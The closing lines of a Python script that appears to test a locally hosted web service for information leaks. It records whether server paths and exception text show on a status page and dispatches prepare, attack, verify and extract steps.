    tally.add(11, "server paths / English exceptions on the status page", "leaks" if shown else "filtered", f"{shown[:3]}")
    return 1 if tally.print() else 0


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("step", choices=["prepare", "attack", "verify", "extract"])
    parser.add_argument("--base", default="http://127.0.0.1:61780")
    parser.add_argument("--targets")
    args = parser.parse_args()
    return {"prepare": prepare, "attack": attack, "verify": verify, "extract": extract}[args.step](args) or 0


if __name__ == "__main__":
    sys.exit(main())
